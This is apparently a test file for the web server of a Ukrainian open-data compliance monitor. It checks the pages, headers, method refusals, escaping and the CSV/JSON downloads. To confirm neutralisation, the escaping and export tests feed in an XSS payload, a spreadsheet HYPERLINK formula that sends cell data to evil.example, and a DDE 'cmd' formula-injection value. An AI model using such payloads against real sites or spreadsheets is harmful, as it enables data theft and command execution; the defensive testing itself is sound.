/**
 * The web server over HTTP on the example council: every public page answers in Ukrainian with the numbers of the
 * check, the safety headers are on every answer, nothing but GET and HEAD is taken, unknown ids and bad queries
 * get Ukrainian pages with the right status, pages are bounded, and a title holding markup is shown as text.
 */
import fs from 'node:fs';
import path from 'node:path';
import { percentText } from '../../src/charts/svg';
import { complianceView } from '../../src/views/compliance';
import { MAX_LIMIT } from '../../src/web/pages/findings';
import { AS_OF, EMAIL, readable, useServedCouncil } from './world';

const served = useServedCouncil('web-server');

const PUBLIC = ['/', '/stewards', '/stewards/transport', '/stewards/youth-sport', '/datasets/transport-e-ticket', '/datasets/r835-lsg-36', '/plan', '/findings', '/rubric', '/open-data/'];

describe('public pages', () => {
  it.each(PUBLIC)('%s answers 200 in Ukrainian with «Станом на: 27.11.2026, 09:00» and the one stylesheet', async (p) => {
    const r = await served().get(p);
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(r.text).toMatch(/^<!DOCTYPE html>\n<html lang="uk">/);
    expect(r.text).toContain('Станом на: <time datetime="2026-11-27T07:00:00.000Z">27.11.2026, 09:00</time>');
    expect(r.text).toContain('odmon.css"');
    expect(r.text).toContain('<a class="skip-link" href="#main">');
    expect(r.text).not.toMatch(/<script|\sstyle=|\son[a-z]+=/i);
    expect(readable(r.text)).not.toMatch(EMAIL);
  });

  it('shows the council\'s score and counts as the compliance view has them, and the open findings check --json printed', async () => {
    const { council, get } = served();
    const v = complianceView(council.src, AS_OF).council;
    const text = readable((await get('/')).text);
    expect(text).toContain(`>${percentText(v.score)}</a>`);
    expect(text).toContain(`вчасно ${v.onTime} з ${v.required - v.suspended} обов’язкових`);
    expect(text).toMatch(new RegExp(`Прострочено оновлення</span><span class="value">${v.late}<`));
    expect(text).toMatch(new RegExp(`Не оприлюднено</span><span class="value">${v.neverPublished}</span><span class="note">обов’язкових наборів<`));
    // «Призупинено» counts required datasets, as the score leaves them out; the digest names all of them and these apart.
    expect(text).toContain(`Призупинено</span><span class="value">${v.suspended}</span><span class="note">обов’язкових наборів; воєнний стан та інші підстави<`);
    expect(text).toContain(`<a href="./findings">${council.findings.length}</a>`);
  });

  it('lists stewards worst first, as the compliance view orders them, each linked to its page', async () => {
    const { council, get } = served();
    const order = complianceView(council.src, AS_OF).stewards.map((s) => s.id);
    const text = (await get('/stewards')).text;
    const shown = [...text.matchAll(/<th scope="row"><a href="\.\/stewards\/([^"]+)">/g)].map((m) => decodeURIComponent(m[1]));
    expect(shown).toEqual(order);
  });

  it('counts a steward\'s findings and lists them as check --steward does', async () => {
    const { council, get } = served();
    const mine = council.findings.filter((f) => f.stewards.includes('transport'));
    const text = readable((await get('/stewards/transport')).text);
    expect(text).toContain(`Відкриті порушення (${mine.length})`);
    expect(text).toContain(`Відкритих порушень: ${mine.length}.`);
    // Its late dataset with its days late, as check found them.
    const late = council.findings.find((f) => f.rule === 'stale-publication' && f.subject.id === 'transport-e-ticket');
    expect(text).toMatch(new RegExp(`Кількість поїздок за електронним квитком</a></th>\\s*<td><span class="tag tag-overdue">[^]*?<td class="num">${late?.daysOverdue}</td></tr>`));
  });

  it('opens a dataset\'s page with one sentence of its state, and links it to the portal', async () => {
    const text = readable((await served().get('/datasets/transport-e-ticket')).text);
    expect(text).toContain('<p class="status-line s-overdue">Прострочено: набір даних мав бути оновлений до 02.10.2026; прострочено на 56 днів.</p>');
    expect(text).toContain('Історія оприлюднення');
    const suspended = readable((await served().get('/datasets/r835-lsg-36')).text);
    expect(suspended).toContain('Призупинено: оприлюднення набору даних призупинено (підстава: Постанова КМУ № 263 від 12.03.2022; воєнний стан)');
  });

  it('filters findings by rule, steward and severity, and counts what check --json has', async () => {
    const { council, get } = served();
    const count = async (q: string): Promise<number> => Number(/Відкриті порушення: (\d+)</.exec((await get(`/findings${q}`)).text)?.[1] ?? 0);
    expect(await count('')).toBe(council.findings.length);
    expect(await count('?steward=transport')).toBe(council.findings.filter((f) => f.stewards.includes('transport')).length);
    expect(await count('?rule=stale-publication')).toBe(council.findings.filter((f) => f.rule === 'stale-publication').length);
    expect(await count('?severity=high&steward=finance')).toBe(council.findings.filter((f) => f.severity === 'high' && f.stewards.includes('finance')).length);
  });

  it('pages findings, and never lists more than the cap whatever limit asks', async () => {
    const { council, get } = served();
    const rows = async (q: string): Promise<number> => ((await get(`/findings${q}`)).text.match(/<tr><td class="num">\d+<\/td><td>/g) ?? []).length;
    expect(await rows('?limit=10')).toBe(10);
    expect(await rows('?limit=10&offset=95')).toBe(Math.max(0, Math.min(10, council.findings.length - 95)));
    expect(await rows(`?limit=${MAX_LIMIT * 100}`)).toBe(Math.min(MAX_LIMIT, council.findings.length));
    const first = (await get('/findings?limit=10')).text;
    expect(first).toContain('rel="next" href="./findings?limit=10&amp;offset=10"');
  });
});

describe('what is refused', () => {
  it.each([
    ['/stewards/nobody', 404, 'Розпорядника «nobody» немає в реєстрі.'],
    ['/datasets/nothing-like-this', 404, 'Набору даних «nothing-like-this» немає в реєстрі.'],
    ['/no/such/page', 404, 'Сторінку не знайдено'],
    ['/findings?steward=nobody', 404, 'Розпорядника «nobody» немає в реєстрі.'],
    ['/findings?limit=abc', 400, '«limit» має бути цілим невід’ємним числом, а не «abc».'],
    ['/findings?severity=urgent', 400, 'Важливості «urgent» немає (є: high, medium, low, info).'],
    ['/stewards?offset=-1', 400, '«offset» має бути цілим невід’ємним числом.'],
    ['/admin/', 404, 'Сторінку не знайдено'],
  ])('%s answers %i with a Ukrainian page', async (p, status, words) => {
    const r = await served().get(p);
    expect(r.status).toBe(status);
    expect(r.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(readable(r.text)).toContain(words);
    expect(r.text).toContain('<html lang="uk">');
  });

  it.each(['POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS'])('%s is not allowed anywhere (405, Allow: GET, HEAD)', async (method) => {
    for (const p of ['/', '/stewards/transport', '/open-data/compliance.csv', '/admin/']) {
      const r = await fetch(new URL(p.slice(1), served().url), { method, body: method === 'POST' ? 'x=1' : undefined });
      expect([p, r.status, r.headers.get('allow')]).toEqual([p, 405, 'GET, HEAD']);
      expect(await r.text()).toContain('Дію не дозволено');
    }
  });

  it('answers HEAD like GET, without a body', async () => {
    const r = await fetch(new URL('stewards/transport', served().url), { method: 'HEAD' });
    expect(r.status).toBe(200);
    expect(await r.text()).toBe('');
  });
});

describe('safety headers', () => {
  it.each(['/', '/datasets/transport-e-ticket', '/no/such/page', '/open-data/compliance.csv', '/odmon.css'])('%s carries a strict CSP, nosniff and a Referrer-Policy', async (p) => {
    const r = await served().get(p);
    expect(r.headers.get('content-security-policy')).toBe("default-src 'none';style-src 'self';img-src 'self';form-action 'self';base-uri 'none';frame-ancestors 'none'");
    expect(r.headers.get('x-content-type-options')).toBe('nosniff');
    expect(r.headers.get('referrer-policy')).toBe('same-origin');
    expect(r.headers.get('strict-transport-security')).toBeNull();
  });

  it('serves the stylesheet as a file with a validator, and 304 when it has not changed', async () => {
    const { get } = served();
    const r = await get('/odmon.css');
    expect(r.headers.get('content-type')).toBe('text/css; charset=utf-8');
    const etag = r.headers.get('etag') as string;
    expect((await get('/odmon.css', { 'if-none-match': etag })).status).toBe(304);
  });
});

describe('escaping', () => {
  it('shows a title holding markup as text, on every page that names it', async () => {
    const { council, get, cache } = served();
    const dir = path.dirname(council.app.config.db);
    const file = path.join(dir, 'script-title.csv');
    fs.writeFileSync(file, 'id,title,steward_id,frequency,last_updated,required\nxss-test,"<script>alert(""x"")</script><img src=x onerror=alert(1)> «Реєстр»",transport,once a month,2026-01-10,yes\n');
    expect((await council.odmon(['import', 'datasets', file])).code).toBe(0);
    expect((await council.odmon(['check'])).code).toBe(0);
    await cache.refresh();
    for (const p of ['/datasets/xss-test', '/stewards/transport', '/findings?steward=transport&rule=stale-publication']) {
      const text = (await get(p)).text;
      expect(text).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt; «Реєстр»');
      expect(text).not.toMatch(/<script|<img/);
    }
  });
});

describe('the open data downloads', () => {
  it('serves the very bytes `odmon export compliance` writes, CSV and JSON, as of the last check', async () => {
    const { council, get, url } = served();
    await served().cache.refresh();
    const dir = path.dirname(council.app.config.db);
    for (const ext of ['csv', 'json']) {
      const out = await council.odmon(['export', 'compliance', `compliance.${ext}`]);
      expect(out.code).toBe(0);
      expect(out.out).toMatch(new RegExp(`^compliance\\.${ext}: записано \\d+ рядк\\S* \\(стан наборів даних станом на 27\\.11\\.2026 09:00, час останньої перевірки, ${ext}\\)\\.\\n$`));
      const written = fs.readFileSync(path.join(dir, `compliance.${ext}`));
      const r = await fetch(new URL(`open-data/compliance.${ext}`, url), { headers: { 'accept-encoding': 'identity' } });
      expect(r.status).toBe(200);
      expect(r.headers.get('access-control-allow-origin')).toBe('*');
      expect(Buffer.from(await r.arrayBuffer()).equals(written)).toBe(true);
    }
    const csv = (await get('/open-data/compliance.csv')).text;
    expect(csv.split('\r\n')[1]).toMatch(/^2026-11-27T09:00:00\.000\+02:00;/);
  });

  it('sends it gzipped to a client that takes gzip, and 304 to one that has it', async () => {
    const { url } = served();
    const http = await import('node:http');
    const zlib = await import('node:zlib');
    const raw = await new Promise<{ status: number; headers: Record<string, unknown>; body: Buffer }>((resolve, reject) => {
      http.get(new URL('open-data/compliance.json', url), { headers: { 'accept-encoding': 'gzip' } }, (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks) }));
      }).on('error', reject);
    });
    expect(raw.headers['content-encoding']).toBe('gzip');
    const json = JSON.parse(zlib.gunzipSync(raw.body).toString('utf8')) as { as_of: string; datasets: unknown[] };
    expect(json.as_of).toBe('2026-11-27T09:00:00.000+02:00');
    const again = await fetch(new URL('open-data/compliance.json', url), { headers: { 'if-none-match': raw.headers.etag as string } });
    expect(again.status).toBe(304);
  });

  it('keeps a title that a spreadsheet would run as a formula from running, in the download and in `odmon export compliance` alike', async () => {
    const { council, get, cache } = served();
    const dir = path.dirname(council.app.config.db);
    const file = path.join(dir, 'formula-title.csv');
    fs.writeFileSync(file, 'id,title,steward_id,frequency,last_updated,required\nformula-test,"=HYPERLINK(""http://evil.example/?""&A1;""Звіт"")",transport,once a month,2026-01-10,yes\nformula-test-2,"@SUM(1+1)*cmd|\' /C calc\'!A0",transport,once a month,2026-01-10,no\n');
    expect((await council.odmon(['import', 'datasets', file])).code).toBe(0);
    expect((await council.odmon(['check'])).code).toBe(0);
    await cache.refresh();
    const csv = (await get('/open-data/compliance.csv')).text;
    const row = (id: string): string[] => (csv.split('\r\n').find((l) => l.includes(`;${id};`)) ?? '').split(';');
    expect(row('formula-test').length).toBeGreaterThan(3);
    const first = csv.split('\r\n').find((l) => l.includes(';formula-test;')) ?? '';
    expect(first).toContain(`;"'=HYPERLINK(""http://evil.example/?""&A1;""Звіт"")";`);
    expect(row('formula-test-2')[2]).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    // No cell of any row starts with what a spreadsheet runs (a negative number is data: days_overdue is never negative).
    for (const line of csv.replace(/^\uFEFF/, '').split('\r\n').filter(Boolean)) {
      for (const cell of line.match(/("(?:[^"]|"")*"|[^;]*)(?=;|$)/g) ?? []) expect([line, /^"?[=+\-@\t\r]/.test(cell)]).toEqual([line, false]);
    }
    expect((await council.odmon(['export', 'compliance', 'formula.csv'])).code).toBe(0);
    // (fetch's text() drops the BOM the file starts with)
    expect(fs.readFileSync(path.join(dir, 'formula.csv'), 'utf8')).toBe(`\uFEFF${csv}`);
  });

  it('refuses `odmon export compliance` to a file whose extension says no format', async () => {
    const r = await served().council.odmon(['export', 'compliance', 'compliance.xlsx']);
    expect(r.code).toBe(64);
    expect(r.err).toContain('error[E_USAGE]: compliance.xlsx: за розширенням ".xlsx" не визначити формат відкритих даних');
  });
});
